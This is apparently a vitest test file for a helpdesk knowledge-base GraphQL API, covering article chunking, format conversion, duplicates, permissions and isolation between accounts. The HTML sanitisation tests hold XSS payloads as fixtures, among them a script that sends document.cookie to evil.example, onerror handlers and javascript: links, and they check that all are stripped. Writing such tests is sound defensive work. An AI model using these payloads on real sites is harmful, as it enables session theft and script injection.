import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHUNK_CHARS } from '../src/services/kb/chunk.ts';
import { graphql } from './gql/index.ts';
import { startTestApp, type TestApp } from './helpers/app.ts';

const Create = graphql(`
  mutation Kb_Create($title: String!, $body: String!, $format: KbFormat, $category: String) {
    createKbDocument(title: $title, body: $body, format: $format, category: $category) {
      __typename
      ... on CreateKbDocumentPayload {
        document {
          id
          title
          body
          format
          source
          status
          category {
            key
          }
          createdBy {
            id
          }
          chunks {
            ordinal
            headingPath
            text
          }
        }
      }
      ... on DuplicateKbDocumentError {
        code
        message
        existingDocument {
          id
          title
        }
      }
      ... on ValidationError {
        message
        issues {
          path
          message
        }
      }
    }
  }
`);

const Update = graphql(`
  mutation Kb_Update($id: ID!, $title: String, $body: String, $format: KbFormat, $category: String) {
    updateKbDocument(id: $id, title: $title, body: $body, format: $format, category: $category) {
      __typename
      ... on UpdateKbDocumentPayload {
        document {
          id
          title
          body
          category {
            key
          }
          chunks {
            headingPath
            text
          }
        }
      }
      ... on DuplicateKbDocumentError {
        existingDocument {
          id
        }
      }
      ... on NotFoundError {
        entity
      }
    }
  }
`);

const Archive = graphql(`
  mutation Kb_Archive($id: ID!) {
    archiveKbDocument(id: $id) {
      __typename
      ... on ArchiveKbDocumentPayload {
        document {
          id
          status
        }
      }
      ... on NotFoundError {
        message
      }
    }
  }
`);

const Get = graphql(`
  query Kb_Get($id: ID!) {
    kbDocument(id: $id) {
      id
      title
      status
      chunks {
        ordinal
        document {
          id
        }
      }
    }
  }
`);

const List = graphql(`
  query Kb_List($search: String, $first: Int, $after: String, $includeArchived: Boolean) {
    kbDocuments(search: $search, first: $first, after: $after, includeArchived: $includeArchived) {
      totalCount
      nodes {
        id
        title
        status
      }
      pageInfo {
        hasNextPage
        endCursor
      }
    }
  }
`);

const Search = graphql(`
  query Kb_Search($query: String!, $first: Int) {
    kbSearch(query: $query, first: $first) {
      score
      snippet
      chunk {
        id
        headingPath
      }
      document {
        id
        title
      }
    }
  }
`);

const Audit = graphql(`
  query Kb_Audit {
    auditLog(first: 10) {
      action
      subject {
        type
        name
      }
    }
  }
`);

const Onboarding = graphql(`
  query Kb_Onboarding {
    onboarding {
      hasKnowledgeBase
      needsSetup
    }
  }
`);

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp();
});
afterAll(() => t.close());

async function team() {
  const account = await t.factory.account();
  const engineer = await t.factory.user(account.id, 'engineer');
  const l1 = await t.factory.user(account.id, 'l1_tech');
  return { account, engineer, token: await t.factory.token(engineer), l1Token: await t.factory.token(l1) };
}

async function create(token: string, vars: { title: string; body: string; format?: 'MARKDOWN' | 'HTML' | 'TEXT'; category?: string }) {
  const r = await t.gql.runOk(Create, vars, { token });
  return r.createKbDocument;
}

async function created(token: string, vars: Parameters<typeof create>[1]) {
  const r = await create(token, vars);
  if (r.__typename !== 'CreateKbDocumentPayload') throw new Error(JSON.stringify(r));
  return r.document;
}

async function counts(accountId: string) {
  const { rows } = await t.system.query<{ docs: number; chunks: number }>(
    `SELECT (SELECT count(*)::int FROM kb_documents WHERE account_id = $1) AS docs, (SELECT count(*)::int FROM kb_chunks WHERE account_id = $1) AS chunks`,
    [accountId],
  );
  return rows[0]!;
}

async function auditActions(accountId: string): Promise<string[]> {
  const { rows } = await t.system.query<{ action: string }>(
    `SELECT action FROM audit_logs WHERE account_id = $1 AND entity_type = 'kb_document' ORDER BY created_at, id`,
    [accountId],
  );
  return rows.map((r) => r.action);
}

describe('articles', () => {
  it('keeps Markdown as written and chunks it by heading, with each heading path', async () => {
    const { token, engineer } = await team();
    const doc = await created(token, {
      title: 'Printer offline',
      body: '# Printer offline\n\nWhen a printer shows offline.\n\n## Check the printer\n\nIs it on?\n\n### Network printers\n\nPing it.\n\n## Clear the queue\n\n1. Stop the spooler\n2. Delete the jobs\n',
      category: 'printing',
    });
    expect(doc).toMatchObject({
      format: 'MARKDOWN',
      source: 'PASTE',
      status: 'ACTIVE',
      category: { key: 'printing' },
      createdBy: { id: engineer.id },
    });
    expect(doc.body.startsWith('# Printer offline\n\nWhen a printer shows offline.')).toBe(true);
    expect(doc.chunks.map((c) => [c.ordinal, c.headingPath, c.text])).toEqual([
      [0, [], 'When a printer shows offline.'],
      [1, ['Check the printer'], 'Is it on?'],
      [2, ['Check the printer', 'Network printers'], 'Ping it.'],
      [3, ['Clear the queue'], '1. Stop the spooler\n2. Delete the jobs'],
    ]);
  });

  it('splits a section longer than the chunk size on paragraph boundaries', async () => {
    const { token } = await team();
    const paras = Array.from({ length: 12 }, (_, i) => `Paragraph ${i} ${'step '.repeat(50).trim()}.`);
    const doc = await created(token, { title: 'Long article', body: `## Steps\n\n${paras.join('\n\n')}` });
    expect(doc.chunks.length).toBeGreaterThanOrEqual(Math.ceil(paras.join('\n\n').length / CHUNK_CHARS));
    expect(doc.chunks.length).toBeGreaterThan(1);
    for (const c of doc.chunks) {
      expect(c.headingPath).toEqual(['Steps']);
      expect(c.text.length).toBeLessThanOrEqual(CHUNK_CHARS);
      // Whole paragraphs only: each chunk starts a paragraph and ends one.
      expect(c.text).toMatch(/^Paragraph \d+ [\s\S]*\.$/);
    }
    expect(doc.chunks.map((c) => c.text).join('\n\n')).toBe(paras.join('\n\n'));
  });

  it('sanitises a hostile HTML page: scripts, styles, handlers and javascript: links are gone; headings and ordered lists stay', async () => {
    const { token } = await team();
    const html = `<!doctype html><html><head><title>Ignore me</title><style>body{display:none}</style>
      <script>fetch('https://evil.example/?c='+document.cookie)</script></head>
      <body onload="steal()"><h1>VPN won't connect</h1><p onclick="x()">Try <b>these</b> steps <img src=x onerror=alert(1)>:</p>
      <ol><li>Restart the client</li><li>Check <a href="javascript:alert(1)">the portal</a> and <a href="https://vpn.example/help">help</a></li></ol>
      <h2>Escalate</h2><p>If it still fails <iframe src="https://evil.example"></iframe>call an engineer.</p>
      <svg><script>alert(2)</script></svg><noscript>enable js</noscript></body></html>`;
    const doc = await created(token, { title: 'VPN', body: html, format: 'HTML' });
    expect(doc.format).toBe('HTML');
    expect(doc.body).not.toMatch(/script|style|onload|onclick|onerror|javascript:|iframe|evil|Ignore me|enable js|<[a-z]/i);
    expect(doc.body).toContain("# VPN won't connect");
    expect(doc.body).toMatch(/^1\.\s+Restart the client$/m);
    expect(doc.body).toMatch(/^2\.\s+Check the portal and \[help\]\(https:\/\/vpn\.example\/help\)$/m);
    expect(doc.body).toContain('## Escalate');
    expect(doc.chunks.map((c) => c.headingPath)).toEqual([["VPN won't connect"], ["VPN won't connect", 'Escalate']]);
  });

  it('cleans Markdown too: raw HTML is sanitised and links to anything but the web or mail keep only their text', async () => {
    const { token } = await team();
    const doc = await created(token, {
      title: 'Links',
      body: '# Links\n\n[portal](https://portal.example/help) [x](javascript:alert(1)) [y](java&#x09;script&#58;alert(1)) ![i](data:text/html,x) [z](&#99999999;) <img src=x onerror=alert(1)><b>bold</b>\n\n<div onclick="x()">\n<script>alert(2)</script>\nKept\n</div>',
    });
    expect(doc.body).toBe('# Links\n\n[portal](https://portal.example/help) x y i [z](&#99999999;) bold\n\nKept');
  });

  it('keeps an HTML table as a Markdown table', async () => {
    const { token } = await team();
    const doc = await created(token, {
      title: 'Ports',
      body: '<h2>Ports</h2><table><tr><th>Service</th><th>Port</th></tr><tr><td>VPN</td><td>443</td></tr><tr><td onclick="x()">RDP</td><td>3389</td></tr></table>',
      format: 'HTML',
    });
    expect(doc.body).toBe('## Ports\n\n| Service | Port |\n| --- | --- |\n| VPN | 443 |\n| RDP | 3389 |');
  });

  it('turns plain text into paragraphs, and short standalone lines into headings', async () => {
    const { token } = await team();
    const doc = await created(token, {
      title: 'Mapped drive missing',
      body: 'Mapped drive missing\r\n\r\nThe S: drive is not in Explorer.\r\n\r\nReconnect the drive\r\n\r\nRun net use S: \\\\files\\shared.\r\nSign out and in.\r\n',
      format: 'TEXT',
    });
    expect(doc.body).toBe(
      '# Mapped drive missing\n\nThe S: drive is not in Explorer.\n\n## Reconnect the drive\n\nRun net use S: \\\\files\\shared.\nSign out and in.',
    );
    expect(doc.chunks.map((c) => c.headingPath)).toEqual([[], ['Reconnect the drive']]);
  });

  it('refuses the same content twice, naming the existing article, and stores nothing', async () => {
    const { token, account } = await team();
    const body = `# Teams audio\n\nCheck the device in settings. ${randomUUID()}`;
    const first = await created(token, { title: 'Teams audio', body });
    const before = await counts(account.id);
    // Same normalised content, even with different line endings and trailing spaces.
    const again = await create(token, { title: 'Teams sound', body: `${body.replace(/\n/g, '\r\n')}   \n\n\n` });
    expect(again).toEqual({
      __typename: 'DuplicateKbDocumentError',
      code: 'duplicate_kb_document',
      message: 'This article is already in the knowledge base as “Teams audio”.',
      existingDocument: { id: first.id, title: 'Teams audio' },
    });
    expect(await counts(account.id)).toEqual(before);
    expect(await auditActions(account.id)).toEqual(['kb.document.create']);
  });

  it('refuses an empty article and an HTML page with no text once cleaned, in words, storing nothing', async () => {
    const { token, account } = await team();
    const empty = await create(token, { title: 'Empty', body: '  \n ' });
    expect(empty).toMatchObject({
      __typename: 'ValidationError',
      issues: [{ path: ['body'], message: 'The article can’t be saved: it is empty.' }],
    });
    const hostile = await create(token, {
      title: 'Nothing',
      body: '<script>alert(1)</script><style>p{}</style><img src=x onerror=alert(1)>',
      format: 'HTML',
    });
    expect(hostile).toMatchObject({
      __typename: 'ValidationError',
      message: 'The article can’t be saved: no text is left once scripts, styles and markup are removed.',
    });
    const badCategory = await create(token, { title: 'T', body: 'text', category: 'gardening' });
    expect(badCategory).toMatchObject({
      __typename: 'ValidationError',
      issues: [{ path: ['category'], message: 'Category is not an L1 category.' }],
    });
    expect(await counts(account.id)).toEqual({ docs: 0, chunks: 0 });
  });

  it('re-chunks an article when its body changes, keeps what is left out, and audits create, update and archive', async () => {
    const { token, account } = await team();
    const doc = await created(token, { title: 'Excel crashes', body: '## Safe mode\n\nStart Excel with /safe.', category: 'software' });
    const u = await t.gql.runOk(
      Update,
      { id: doc.id, body: '## Add-ins\n\nDisable COM add-ins.\n\n## Repair\n\nRepair Office.' },
      { token },
    );
    expect(u.updateKbDocument).toMatchObject({
      __typename: 'UpdateKbDocumentPayload',
      document: {
        title: 'Excel crashes',
        category: { key: 'software' },
        chunks: [
          { headingPath: ['Add-ins'], text: 'Disable COM add-ins.' },
          { headingPath: ['Repair'], text: 'Repair Office.' },
        ],
      },
    });
    const old = await t.gql.runOk(Search, { query: 'safe mode' }, { token });
    expect(old.kbSearch).toEqual([]);
    const renamed = await t.gql.runOk(Update, { id: doc.id, title: 'Excel crashes on open', category: '' }, { token });
    expect(renamed.updateKbDocument).toMatchObject({ document: { title: 'Excel crashes on open', category: null } });
    const { rows } = await t.system.query('SELECT DISTINCT document_title FROM kb_chunks WHERE document_id = $1', [doc.id]);
    expect(rows).toEqual([{ document_title: 'Excel crashes on open' }]);
    await t.gql.runOk(Archive, { id: doc.id }, { token });
    await t.gql.runOk(Archive, { id: doc.id }, { token });
    expect(await auditActions(account.id)).toEqual([
      'kb.document.create',
      'kb.document.update',
      'kb.document.update',
      'kb.document.archive',
    ]);
    // The audit log names the article.
    const owner = await t.factory.token(await t.factory.user(account.id, 'owner'));
    const log = (await t.gql.runOk(Audit, {}, { token: owner })).auditLog.filter((e) => e.action.startsWith('kb.'));
    expect(log[0]).toEqual({ action: 'kb.document.archive', subject: { type: 'kb_document', name: 'Excel crashes on open' } });
  });

  it('reads an edited body as Markdown and keeps the original’s format, unless a format is sent', async () => {
    const { token } = await team();
    const doc = await created(token, { title: 'Dock', body: '<h2>Reseat</h2><p>Reseat the <b>USB-C</b> cable.</p>', format: 'HTML' });
    expect(doc.body).toBe('## Reseat\n\nReseat the **USB-C** cable.');
    const edited = await t.gql.runOk(Update, { id: doc.id, body: `${doc.body}\n\n## Firmware\n\nUpdate the dock <firmware>.` }, { token });
    expect(edited.updateKbDocument).toMatchObject({
      document: { body: '## Reseat\n\nReseat the **USB-C** cable.\n\n## Firmware\n\nUpdate the dock .' },
    });
    const html = await t.gql.runOk(
      Update,
      { id: doc.id, body: '<h2>Power</h2><p>Use the dock’s own charger.</p>', format: 'HTML' },
      { token },
    );
    expect(html.updateKbDocument).toMatchObject({ document: { body: '## Power\n\nUse the dock’s own charger.' } });
    expect((await t.gql.runOk(Get, { id: doc.id }, { token })).kbDocument).toMatchObject({ title: 'Dock' });
  });

  it('refuses an update that would duplicate another article', async () => {
    const { token } = await team();
    const a = await created(token, { title: 'A', body: `Alpha ${randomUUID()}` });
    const b = await created(token, { title: 'B', body: `Beta ${randomUUID()}` });
    const r = await t.gql.runOk(Update, { id: b.id, body: a.body }, { token });
    expect(r.updateKbDocument).toEqual({ __typename: 'DuplicateKbDocumentError', existingDocument: { id: a.id } });
  });

  it('archiving hides an article from search and the library, keeps it readable by id, and may leave the desk without a knowledge base', async () => {
    const { token, l1Token } = await team();
    expect((await t.gql.runOk(Onboarding, {}, { token: l1Token })).onboarding).toEqual({ hasKnowledgeBase: false, needsSetup: true });
    const doc = await created(token, { title: 'Wi-Fi drops', body: '## Forget the network\n\nForget the network and join again.' });
    expect((await t.gql.runOk(Onboarding, {}, { token: l1Token })).onboarding).toEqual({ hasKnowledgeBase: true, needsSetup: false });
    expect((await t.gql.runOk(Search, { query: 'forget network' }, { token: l1Token })).kbSearch).toHaveLength(1);
    const a = await t.gql.runOk(Archive, { id: doc.id }, { token });
    expect(a.archiveKbDocument).toEqual({ __typename: 'ArchiveKbDocumentPayload', document: { id: doc.id, status: 'ARCHIVED' } });
    expect((await t.gql.runOk(Search, { query: 'forget network' }, { token: l1Token })).kbSearch).toEqual([]);
    expect((await t.gql.runOk(List, {}, { token: l1Token })).kbDocuments).toMatchObject({ totalCount: 0, nodes: [] });
    expect((await t.gql.runOk(List, { includeArchived: true }, { token: l1Token })).kbDocuments.nodes).toEqual([
      { id: doc.id, title: 'Wi-Fi drops', status: 'ARCHIVED' },
    ]);
    expect((await t.gql.runOk(Get, { id: doc.id }, { token: l1Token })).kbDocument).toMatchObject({ status: 'ARCHIVED' });
    expect((await t.gql.runOk(Onboarding, {}, { token: l1Token })).onboarding.hasKnowledgeBase).toBe(false);
    // The same content may come back once the old copy is archived.
    expect(
      (await create(token, { title: 'Wi-Fi drops', body: '## Forget the network\n\nForget the network and join again.' })).__typename,
    ).toBe('CreateKbDocumentPayload');
  });

  it('pages the library newest first, counts it, and narrows it by title or text', async () => {
    const { token, l1Token } = await team();
    for (const n of [1, 2, 3]) await created(token, { title: `Runbook ${n}`, body: n === 2 ? 'Reset the MFA registration.' : `Text ${n}` });
    const p1 = await t.gql.runOk(List, { first: 2 }, { token: l1Token });
    expect(p1.kbDocuments.nodes.map((n) => n.title)).toEqual(['Runbook 3', 'Runbook 2']);
    expect(p1.kbDocuments).toMatchObject({ totalCount: 3, pageInfo: { hasNextPage: true } });
    const p2 = await t.gql.runOk(List, { first: 2, after: p1.kbDocuments.pageInfo.endCursor }, { token: l1Token });
    expect(p2.kbDocuments.nodes.map((n) => n.title)).toEqual(['Runbook 1']);
    expect(p2.kbDocuments.pageInfo.hasNextPage).toBe(false);
    expect((await t.gql.runOk(List, { search: 'mfa' }, { token: l1Token })).kbDocuments).toMatchObject({
      totalCount: 1,
      nodes: [{ title: 'Runbook 2' }],
    });
    expect((await t.gql.runOk(List, { search: 'runbook 3' }, { token: l1Token })).kbDocuments.nodes.map((n) => n.title)).toEqual([
      'Runbook 3',
    ]);
    const bad = await t.gql.run(List, { after: 'garbage' }, { token: l1Token });
    expect(bad.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT' });
  });

  it('lets an L1 read and search but not write, and a viewer do neither', async () => {
    const { token, l1Token, account } = await team();
    const doc = await created(token, { title: 'Password expiry', body: 'Use self-service reset.' });
    expect((await t.gql.runOk(Get, { id: doc.id }, { token: l1Token })).kbDocument?.title).toBe('Password expiry');
    await t.gql.runDenied(Create, { title: 'x', body: 'y' }, 'FORBIDDEN', { token: l1Token });
    await t.gql.runDenied(Archive, { id: doc.id }, 'FORBIDDEN', { token: l1Token });
    const viewer = await t.factory.token(await t.factory.user(account.id, 'viewer'));
    await t.gql.runDenied(Get, { id: doc.id }, 'FORBIDDEN', { token: viewer });
    await t.gql.runDenied(Search, { query: 'password' }, 'FORBIDDEN', { token: viewer });
  });

  it('never shows another account’s articles: by id, in search, in the library, or to update', async () => {
    const a = await team();
    const b = await team();
    const doc = await created(a.token, {
      title: 'Shared mailbox missing in Outlook',
      body: `Add the mailbox in account settings. ${randomUUID()}`,
    });
    expect((await t.gql.runOk(Get, { id: doc.id }, { token: b.token })).kbDocument).toBeNull();
    expect((await t.gql.runOk(Search, { query: 'shared mailbox' }, { token: b.token })).kbSearch).toEqual([]);
    expect((await t.gql.runOk(List, {}, { token: b.token })).kbDocuments.totalCount).toBe(0);
    expect((await t.gql.runOk(Update, { id: doc.id, title: 'Mine now' }, { token: b.token })).updateKbDocument).toEqual({
      __typename: 'NotFoundError',
      entity: 'KbDocument',
    });
    expect((await t.gql.runOk(Archive, { id: doc.id }, { token: b.token })).archiveKbDocument.__typename).toBe('NotFoundError');
    // Same content in another account is not a duplicate.
    expect((await create(b.token, { title: 'Shared mailbox', body: doc.body })).__typename).toBe('CreateKbDocumentPayload');
    expect((await t.gql.runOk(Get, { id: doc.id }, { token: a.token })).kbDocument?.title).toBe('Shared mailbox missing in Outlook');
  });
});
